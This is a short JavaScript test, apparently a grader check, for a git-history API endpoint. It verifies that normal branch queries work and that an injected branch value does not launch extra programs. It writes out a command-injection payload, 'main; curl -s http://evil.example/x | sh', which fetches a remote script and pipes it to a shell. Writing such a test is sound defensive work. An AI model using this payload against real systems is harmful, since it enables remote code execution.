import { fakeChildProcess, fakeExpress, fakeResponse, loadModule } from "../harness.mjs";

/** The history endpoint still runs git and returns its lines; a branch with `; curl … | sh` starts nothing else. */
export async function check(modulePath) {
  const child = fakeChildProcess("a1 first\nb2 second\n");
  const express = fakeExpress();
  loadModule(modulePath, { fakes: { express: express.module, child_process: child.module } });
  const handler = express.routes["GET /api/history"];

  const res = fakeResponse();
  handler({ query: { branch: "develop" } }, res);
  const normal = JSON.stringify(res.body) === JSON.stringify({ commits: ["a1 first", "b2 second"] }) && child.programs().join() === "git";

  handler({ query: { branch: "main; curl -s http://evil.example/x | sh" } }, fakeResponse());
  const attackBlocked = child.programs().every((program) => program === "git");
  return { normal, attackBlocked };
}
